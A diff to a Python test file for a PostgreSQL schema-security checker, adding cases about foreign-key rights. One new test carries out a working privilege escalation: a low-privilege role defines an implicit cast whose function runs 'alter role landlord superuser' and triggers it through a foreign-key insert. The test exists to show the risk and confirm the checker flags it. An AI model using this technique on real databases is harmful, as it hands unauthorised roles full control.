@@ -179,6 +179,19 @@ FAULTS = [
         "role landlord may put triggers on undoubt.undoubt_note",
     ),
     (
+        "grant references on undoubt.undoubt_note to landlord",
+        "role landlord may put foreign keys on undoubt.undoubt_note",
+    ),
+    (
+        "grant references (gid), references (txid) on undoubt.undoubt_branch to public",
+        "everybody may put foreign keys on undoubt.undoubt_branch",
+    ),
+    (
+        "create table referring (gid text references undoubt.undoubt_branch (gid));"
+        "alter table referring owner to landlord",
+        "a foreign key of a table that belongs to role landlord refers to undoubt.undoubt_branch",
+    ),
+    (
         "create function fired() returns trigger language plpgsql as 'begin return new; end';"
         "alter function fired() owner to landlord;"
         "create trigger t before insert on undoubt.undoubt_branch for each row execute function fired()",
@@ -217,8 +230,10 @@ async def test_power_over_the_schema_that_was_given_away(
         await fresh.states.unfinished()
     await one_phase(fresh)
     assert await noted.admin.fetchval("select count(*) from undoubt.undoubt_note") == 0
-    assert finding.fix is not None
-    if finding.fix.startswith("schema_owners"):
+    if finding.fix is None:
+        await noted.admin.execute("drop table referring")
+        [mended] = await found(fresh)
+    elif finding.fix.startswith("schema_owners"):
         trusted = participant_at(noted.dsn, schema_owners=("landlord",))
         [mended] = await found(trusted)
         await trusted.close()
@@ -229,6 +244,30 @@ async def test_power_over_the_schema_that_was_given_away(
         [mended] = await found(fresh)
     assert mended.severity is Severity.OK
     await fresh.close()
+
+
+async def test_foreign_keys_run_code_of_others(
+    noted: Database, landlord: Connection, participant: PostgresParticipant
+) -> None:
+    """Why a right to put foreign keys is power over the schema: PostgreSQL casts each value with the rights
+    of the owner of the table that is referred to."""
+    await noted.admin.execute(
+        "grant usage on schema undoubt to landlord; grant references on undoubt.undoubt_history to landlord;"
+        "grant create on schema public to landlord"
+    )
+    await landlord.execute(
+        "create type public.key as (v boolean);"
+        "create function public.made(public.key) returns boolean language plpgsql as"
+        " $$ begin alter role landlord superuser; return ($1).v; end $$;"
+        "create cast (public.key as boolean) with function public.made(public.key) as implicit;"
+        "create table public.referring (k public.key references undoubt.undoubt_history (one))"
+    )
+    await noted.admin.execute(
+        "insert into undoubt.undoubt_history (id) values ('any') on conflict do nothing"
+    )
+    await landlord.execute("insert into public.referring values (row(true)::public.key)")
+    assert await is_superuser(noted)
+    assert {one.severity for one in await found(participant)} == {Severity.PROBLEM}
 
 
 async def test_a_schema_made_anew_under_open_sessions(
